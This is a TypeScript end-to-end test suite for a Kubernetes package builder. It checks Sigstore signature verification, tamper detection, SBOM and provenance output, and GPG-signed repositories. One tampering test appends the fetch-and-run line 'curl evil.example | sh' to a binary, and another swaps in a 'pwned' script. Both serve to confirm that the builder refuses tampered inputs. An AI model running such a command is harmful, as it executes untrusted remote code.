/**
 * End to end with the real nfpm: builds from a mirror that carries Sigstore signatures (made by
 * a stand-in Sigstore), a tampered binary with a matching checksum file, the download path
 * against servers on 127.0.0.1 (artifacts + a Rekor stand-in), `fetch` writing the signature
 * files into a mirror for an offline build, and the SBOM and provenance of every build checked
 * against their schemas and against the packages and inputs.
 */
import { createHash } from 'node:crypto';
import { cp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fetch } from '../../src/api.js';
import { build } from '../../src/build/build.js';
import type { Manifest } from '../../src/build/manifest.js';
import { validateSettings } from '../../src/config/load.js';
import { writeDemoMirror } from '../../src/demo/mirror.js';
import { KubepkgError } from '../../src/errors/index.js';
import { kubernetesBinary } from '../../src/inputs/layout.js';
import { run } from '../../src/exec.js';
import { packagesFromOutDir } from '../../src/repo/from-out.js';
import { makeKey, type TestKey } from '../support/repo-packages.js';
import { gpgVerify } from '../support/supply-chain/gpg-verify.js';
import { loadDirectory } from '../support/fetch/directory.js';
import { TestUpstreamServer } from '../support/fetch/server.js';
import { makeTempDir, removeDir } from '../support/temp.js';
import { TestRekor } from '../support/supply-chain/rekor-server.js';
import { provenanceProblems, spdxProblems } from '../support/supply-chain/schemas.js';
import { K8S_IDENTITY, K8S_ISSUER, TestSigstore } from '../support/supply-chain/test-sigstore.js';

const VERSION = '1.31.4';
const BINARIES = ['kubectl', 'kubelet'] as const;
const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');
const sha512 = (b: Buffer) => createHash('sha512').update(b).digest('hex');

let tmp: string;
let signed: string;
let trustRoot: string;
let sigstore: TestSigstore;
let rekor: TestRekor;

beforeAll(async () => {
  tmp = await makeTempDir('supply-build');
  sigstore = await TestSigstore.create();
  rekor = await new TestRekor().start();
  trustRoot = join(tmp, 'trusted_root.json');
  await writeFile(trustRoot, sigstore.trustedRoot(rekor.url));
  signed = join(tmp, 'signed-mirror');
  await writeDemoMirror({
    root: signed,
    kubernetesVersions: [VERSION],
    criToolsVersions: ['1.31.1'],
    cniVersions: ['1.5.1'],
    architectures: ['amd64'],
  });
  for (const name of BINARIES) {
    const path = join(signed, kubernetesBinary(name, VERSION, 'amd64').mirrorPath);
    const data = await readFile(path);
    const files = await sigstore.sign(data);
    await writeFile(`${path}.sig`, files.sig);
    await writeFile(`${path}.cert`, files.cert);
    await writeFile(`${path}.rekor.json`, files.rekor);
    rekor.add(sha256(data), files.uuid, files.rekor);
  }
}, 120_000);

afterAll(async () => {
  await rekor?.stop();
  await removeDir(tmp);
});

function settings(extra: Record<string, unknown>) {
  return validateSettings({
    kubernetesVersion: VERSION,
    architectures: ['amd64'],
    formats: ['deb', 'rpm'],
    packages: [...BINARIES],
    trustRoot,
    cacheDir: join(tmp, 'cache'),
    ...extra,
  });
}

async function buildError(promise: Promise<unknown>): Promise<KubepkgError> {
  const err = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(KubepkgError);
  return err as KubepkgError;
}

async function readJson<T>(path: string): Promise<T> {
  return JSON.parse(await readFile(path, 'utf8')) as T;
}

type Spdx = {
  packages: { name: string; packageFileName?: string; downloadLocation: string; annotations?: { comment: string }[] }[];
  files: { fileName: string }[];
  relationships: { relationshipType: string }[];
};
type Statement = {
  subject: { name: string; digest: { sha256: string } }[];
  predicate: {
    buildDefinition: {
      externalParameters: Record<string, unknown>;
      resolvedDependencies: { uri: string; digest: Record<string, string> }[];
    };
  };
};

test('a build from a signed mirror verifies every binary and records the signer; SBOM and provenance are valid', async () => {
  const out = join(tmp, 'out-signed');
  const { manifest } = await build(settings({ mirror: signed, out }), { buildCacheDir: join(tmp, 'bc1') });
  expect(manifest.artifacts).toHaveLength(4);
  for (const a of manifest.artifacts) {
    expect(a.inputs).toHaveLength(1);
    expect(a.inputs[0]!.signature).toMatchObject({ identity: K8S_IDENTITY, issuer: K8S_ISSUER });
  }
  const sbom = await readJson<Spdx>(join(out, 'sbom.spdx.json'));
  expect(spdxProblems(sbom)).toEqual([]);
  const built = sbom.packages.filter((p) => p.packageFileName).map((p) => p.packageFileName);
  expect(built.sort()).toEqual(manifest.artifacts.map((a) => a.file).sort());
  const inputs = sbom.packages.filter((p) => !p.packageFileName);
  expect(inputs.map((p) => p.downloadLocation).sort()).toEqual(
    BINARIES.map((b) => `https://dl.k8s.io/release/v${VERSION}/bin/linux/amd64/${b}`),
  );
  for (const i of inputs) expect(i.annotations?.[0]?.comment).toContain(K8S_IDENTITY);
  expect(sbom.files.map((f) => f.fileName)).toContain('./usr/bin/kubelet');
  expect(sbom.relationships.filter((r) => r.relationshipType === 'GENERATED_FROM')).toHaveLength(4);

  const provenance = await readJson<Statement>(join(out, 'provenance.intoto.json'));
  expect(provenanceProblems(provenance)).toEqual([]);
  expect(provenance.subject.map((s) => [s.name, s.digest.sha256]).sort()).toEqual(
    manifest.artifacts.map((a) => [a.file, a.sha256]).sort(),
  );
  const kubelet = await readFile(join(signed, kubernetesBinary('kubelet', VERSION, 'amd64').mirrorPath));
  expect(provenance.predicate.buildDefinition.resolvedDependencies).toContainEqual(
    expect.objectContaining({
      uri: `https://dl.k8s.io/release/v${VERSION}/bin/linux/amd64/kubelet`,
      digest: { sha256: sha256(kubelet), sha512: sha512(kubelet) },
    }),
  );
  expect(provenance.predicate.buildDefinition.externalParameters).toMatchObject({
    kubernetesVersion: VERSION,
    architectures: ['amd64'],
    formats: ['deb', 'rpm'],
  });

  // the same inputs give the same SBOM and provenance
  const again = join(tmp, 'out-signed-again');
  await build(settings({ mirror: signed, out: again }), { buildCacheDir: join(tmp, 'bc1b') });
  for (const f of ['sbom.spdx.json', 'provenance.intoto.json'])
    expect(await readFile(join(again, f), 'utf8')).toBe(await readFile(join(out, f), 'utf8'));
});

test('a tampered binary with a matching checksum file is refused, naming the file; nothing is built', async () => {
  const mirror = join(tmp, 'tampered-mirror');
  await cp(signed, mirror, { recursive: true });
  const path = join(mirror, kubernetesBinary('kubelet', VERSION, 'amd64').mirrorPath);
  const evil = Buffer.concat([await readFile(path), Buffer.from('\ncurl evil.example | sh\n')]);
  await writeFile(path, evil);
  await writeFile(`${path}.sha256`, `${sha256(evil)}  kubelet\n`);
  await writeFile(`${path}.sha512`, `${sha512(evil)}  kubelet\n`);
  const out = join(tmp, 'out-tampered');
  const err = await buildError(build(settings({ mirror, out }), { buildCacheDir: join(tmp, 'bc2') }));
  expect(err.code).toBe('ESIGNATURE');
  expect(err.message).toContain(path);
  const written = await readdir(out).catch(() => [] as string[]);
  expect(written.filter((f) => /\.(deb|rpm)$/.test(f))).toEqual([]);
  // verifySignatures: false relies on the checksum files alone, as before
  const { manifest } = await build(settings({ mirror, out, verifySignatures: false }), {
    buildCacheDir: join(tmp, 'bc2b'),
  });
  expect(manifest.artifacts.every((a) => a.inputs.every((i) => i.signature === undefined))).toBe(true);
});

test('missing signature files: a .cert without .sig is refused; an unsigned mirror is refused when signatures are required', async () => {
  const mirror = join(tmp, 'half-signed');
  await cp(signed, mirror, { recursive: true });
  const path = join(mirror, kubernetesBinary('kubectl', VERSION, 'amd64').mirrorPath);
  await rm(`${path}.sig`);
  const err = await buildError(
    build(settings({ mirror, out: join(tmp, 'out-half') }), { buildCacheDir: join(tmp, 'bc3') }),
  );
  expect(err.code).toBe('ENOSIGNATURE');
  expect(err.message).toContain(`${path} has no .sig`);
  expect(err.fix).toContain('kubepkg fetch');

  const unsigned = join(tmp, 'unsigned-mirror');
  await writeDemoMirror({
    root: unsigned,
    kubernetesVersions: [VERSION],
    criToolsVersions: ['1.31.1'],
    cniVersions: ['1.5.1'],
    architectures: ['amd64'],
  });
  // auto: a mirror without signatures builds on its checksums ...
  const { manifest } = await build(settings({ mirror: unsigned, out: join(tmp, 'out-unsigned') }), {
    buildCacheDir: join(tmp, 'bc4'),
  });
  expect(manifest.artifacts).toHaveLength(4);
  // ... and is refused when they are required, every binary named
  const required = await buildError(
    build(settings({ mirror: unsigned, out: join(tmp, 'out-required'), verifySignatures: true }), {
      buildCacheDir: join(tmp, 'bc5'),
    }),
  );
  expect(required.code).toBe('ESIGNATURES');
  expect(required.details.join('\n')).toContain('kubelet has no .sig / .cert / .rekor.json');
  expect(required.details.join('\n')).toContain('kubectl has no');
});

test('download path: signatures from the server, the entry from Rekor; fetch stores them for an offline build', async () => {
  const files = await loadDirectory(signed);
  // upstream publishes .sig and .cert only; the Rekor entry comes from the log
  for (const name of [...files.keys()]) if (name.endsWith('.rekor.json')) files.delete(name);
  const server = await new TestUpstreamServer(files).start();
  try {
    const cacheDir = join(tmp, 'dl-cache');
    const mirrorOut = join(tmp, 'fetched-mirror');
    await fetch(settings({ mirror: server.url, cacheDir, verifySignatures: true }), mirrorOut);
    for (const name of BINARIES) {
      const path = join(mirrorOut, kubernetesBinary(name, VERSION, 'amd64').mirrorPath);
      for (const suffix of ['.sig', '.cert', '.rekor.json']) {
        expect(await readFile(path + suffix, 'utf8')).toBe(
          await readFile(join(signed, `${kubernetesBinary(name, VERSION, 'amd64').mirrorPath}${suffix}`), 'utf8'),
        );
      }
    }
    expect(rekor.requests).toContain('POST /api/v1/index/retrieve');
    // offline, from the fetched mirror: verified again, from the files fetch wrote
    const before = rekor.requests.length;
    const { manifest } = await build(
      settings({ mirror: mirrorOut, out: join(tmp, 'out-fetched'), verifySignatures: true }),
      {
        buildCacheDir: join(tmp, 'bc6'),
      },
    );
    expect(rekor.requests.length).toBe(before);
    expect(manifest.artifacts[0]!.inputs[0]!.signature?.identity).toBe(K8S_IDENTITY);
    // a build that downloads verifies too
    const direct = await build(settings({ mirror: server.url, cacheDir, out: join(tmp, 'out-http') }), {
      buildCacheDir: join(tmp, 'bc7'),
    });
    void direct;
    expect((await readJson<Manifest>(join(tmp, 'out-http', 'manifest.json'))).artifacts.length).toBe(4);
  } finally {
    await server.stop();
  }
});

test('download path: a server whose binary and checksums were replaced is refused by the signature', async () => {
  const files = await loadDirectory(signed);
  const path = `/${kubernetesBinary('kubectl', VERSION, 'amd64').mirrorPath}`;
  const evil = Buffer.from('#!/bin/sh\necho pwned\n');
  files.set(path, evil);
  files.set(`${path}.sha256`, Buffer.from(`${sha256(evil)}  kubectl\n`));
  files.set(`${path}.sha512`, Buffer.from(`${sha512(evil)}  kubectl\n`));
  const server = await new TestUpstreamServer(files).start();
  try {
    const err = await buildError(
      fetch(
        settings({ mirror: server.url, cacheDir: join(tmp, 'evil-cache'), verifySignatures: true }),
        join(tmp, 'evil-mirror'),
      ),
    );
    expect(err.code).toBe('ESIGNATURE');
    expect(err.message).toContain('the file is not the one that was signed');
    expect(err.message).toContain('kubectl');
    await expect(readFile(join(tmp, 'evil-mirror', path))).rejects.toMatchObject({ code: 'ENOENT' });
  } finally {
    await server.stop();
  }
});

describe('with a signing key and a repository', () => {
  let key: TestKey;
  let out: string;
  let root: string;
  beforeAll(async () => {
    // no passphrase: nfpm reads an RPM key's passphrase from the process environment only
    key = await makeKey(join(tmp, 'keys'), 'supply');
    out = join(tmp, 'out-repo');
    root = join(tmp, 'repo');
    // the whole set but kubeadm: a repository refuses packages whose dependencies it lacks
    const packages = ['kubectl', 'kubelet', 'cri-tools', 'kubernetes-cni'];
    await build(settings({ mirror: signed, out, packages, criToolsVersion: '1.31.1', cniVersion: '1.5.1' }), {
      buildCacheDir: join(tmp, 'bc-repo'),
      signing: { key: { keyFile: key.secretFile } },
      repo: { root },
    });
  }, 300_000);

  test('--out has SHA256SUMS.asc, verified by gpg, carrying SHA256SUMS', async () => {
    expect(await gpgVerify(key.publicFile, join(out, 'SHA256SUMS.asc'))).toContain(`VALIDSIG ${key.fingerprint}`);
    expect(await readFile(join(out, 'SHA256SUMS.asc'), 'utf8')).toContain(
      await readFile(join(out, 'SHA256SUMS'), 'utf8'),
    );
  });

  test.each(['deb', 'rpm'])(
    'the %s repository carries the SBOM and provenance of the release and a signed SHA256SUMS over all of it',
    async (format) => {
      const dir = join(root, 'core', 'stable', 'v1.31', format);
      for (const f of ['sbom.spdx.json', 'provenance.intoto.json'])
        expect(await readFile(join(dir, 'attestations', `${VERSION}-1`, f), 'utf8')).toBe(
          await readFile(join(out, f), 'utf8'),
        );
      const sums = await readFile(join(dir, 'SHA256SUMS'), 'utf8');
      expect(sums).toContain(`  attestations/${VERSION}-1/sbom.spdx.json\n`);
      expect(sums).toContain(`  attestations/${VERSION}-1/provenance.intoto.json\n`);
      expect(sums.split('\n').filter((l) => /\.(deb|rpm)$/.test(l))).toHaveLength(4);
      await run('sha256sum', ['--check', '--strict', '--quiet', 'SHA256SUMS'], { cwd: dir });
      expect(await gpgVerify(key.publicFile, join(dir, 'SHA256SUMS.asc'))).toContain(`VALIDSIG ${key.fingerprint}`);
      const index = await readFile(join(dir, 'index.html'), 'utf8');
      for (const link of ['SHA256SUMS', 'SHA256SUMS.asc', 'attestations/']) expect(index).toContain(`href="${link}"`);
      const release = await readFile(join(dir, 'attestations', `${VERSION}-1`, 'index.html'), 'utf8');
      for (const link of ['sbom.spdx.json', 'provenance.intoto.json']) expect(release).toContain(`href="${link}"`);
    },
  );

  test('repo --from OUT takes the attestations along, and refuses them once changed', async () => {
    const found = await packagesFromOutDir(out);
    expect(found.groups).toHaveLength(1);
    expect(found.groups[0]!.attestations).toEqual({
      release: `${VERSION}-1`,
      files: [join(out, 'sbom.spdx.json'), join(out, 'provenance.intoto.json')],
    });
    const changed = join(tmp, 'out-changed');
    await cp(out, changed, { recursive: true });
    await writeFile(join(changed, 'sbom.spdx.json'), '{}');
    const err = await buildError(packagesFromOutDir(changed));
    expect(err.code).toBe('EATTESTATION');
    expect(err.message).toContain('sbom.spdx.json');
  });

  test('several versions in one build: an SBOM and provenance per version, SHA256SUMS.asc over the final list', async () => {
    const mirror = join(tmp, 'two-versions');
    await writeDemoMirror({
      root: mirror,
      kubernetesVersions: [VERSION, '1.31.5'],
      criToolsVersions: ['1.31.1'],
      cniVersions: ['1.5.1'],
      architectures: ['amd64'],
    });
    const many = join(tmp, 'out-many');
    await build(settings({ kubernetesVersion: `${VERSION},1.31.5`, mirror, out: many, packages: ['kubectl'] }), {
      buildCacheDir: join(tmp, 'bc-many'),
      signing: { key: { keyFile: key.secretFile } },
    });
    const names = (await readdir(many)).sort();
    for (const v of [VERSION, '1.31.5']) {
      expect(names).toContain(`sbom-${v}.spdx.json`);
      expect(spdxProblems(await readJson(join(many, `sbom-${v}.spdx.json`)))).toEqual([]);
      expect(provenanceProblems(await readJson(join(many, `provenance-${v}.intoto.json`)))).toEqual([]);
    }
    const sums = await readFile(join(many, 'SHA256SUMS'), 'utf8');
    expect(sums.split('\n').filter(Boolean)).toHaveLength(4);
    expect(await readFile(join(many, 'SHA256SUMS.asc'), 'utf8')).toContain(sums);
    expect(await gpgVerify(key.publicFile, join(many, 'SHA256SUMS.asc'))).toContain(`VALIDSIG ${key.fingerprint}`);
    const found = await packagesFromOutDir(many);
    expect(found.groups.map((g) => g.attestations?.release)).toEqual([`${VERSION}-1`, '1.31.5-1']);
  });
});
